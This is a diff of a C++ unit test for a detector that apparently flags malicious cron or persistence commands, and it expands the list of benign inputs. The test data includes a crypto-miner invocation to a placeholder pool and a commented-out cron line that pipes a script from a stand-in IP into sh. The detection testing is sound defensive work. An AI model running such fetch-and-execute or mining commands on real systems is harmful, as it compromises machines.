@@ -20,12 +20,26 @@ TEST(CommandSigns, SpeakOnlyAgainstWhatBringsThingsBack) {
                           "xmrig -o stratum+tcp://pool.invalid:3333", "* * * * * /var/www/... /x"}) {
     EXPECT_NE(sign_in(bad), "") << bad;
   }
-  for (const char* good :
-       {"17 * * * * root cd / && run-parts --report /etc/cron.hourly", "*/5 * * * * www-data /usr/bin/php /var/www/nextcloud/cron.php",
-        "0 3 * * * curl -s https://example.net/cron.php >/dev/null", "30 2 * * * /usr/local/bin/backup >/tmp/backup.log 2>&1",
-        "0 4 * * * wget -q -O /dev/null https://example.net/wp-cron.php", "# */5 * * * * curl http://198.51.100.7/x.sh | sh", "",
-        "find /tmp -mtime +7 -delete", "export PATH=$HOME/bin:$PATH", "[ -f /tmp/lock ] && exit", "alias ll='ls -l'", "eval \"$(ssh-agent -s)\"",
-        "eval \"$(dircolors -b)\"", "TMPDIR=/var/tmp", "ExecStart=/usr/sbin/nginx -g 'daemon on;'"}) {
+  for (const char* good : {"17 * * * * root cd / && run-parts --report /etc/cron.hourly",
+                           "*/5 * * * * www-data /usr/bin/php /var/www/nextcloud/cron.php",
+                           "0 3 * * * curl -s https://example.net/cron.php >/dev/null",
+                           "30 2 * * * /usr/local/bin/backup >/tmp/backup.log 2>&1",
+                           "0 4 * * * wget -q -O /dev/null https://example.net/wp-cron.php",
+                           "# */5 * * * * curl http://198.51.100.7/x.sh | sh",
+                           "",
+                           "find /tmp -mtime +7 -delete",
+                           "rm -f /tmp/x",
+                           "0 5 * * * rm -rf /tmp/cache",
+                           "TMP=/tmp/x",
+                           "cat /tmp/a | sort",
+                           "test -e /tmp/x || touch /tmp/x",
+                           "export PATH=$HOME/bin:$PATH",
+                           "[ -f /tmp/lock ] && exit",
+                           "alias ll='ls -l'",
+                           "eval \"$(ssh-agent -s)\"",
+                           "eval \"$(dircolors -b)\"",
+                           "TMPDIR=/var/tmp",
+                           "ExecStart=/usr/sbin/nginx -g 'daemon on;'"}) {
     EXPECT_EQ(sign_in(good), "") << good;
   }
 }
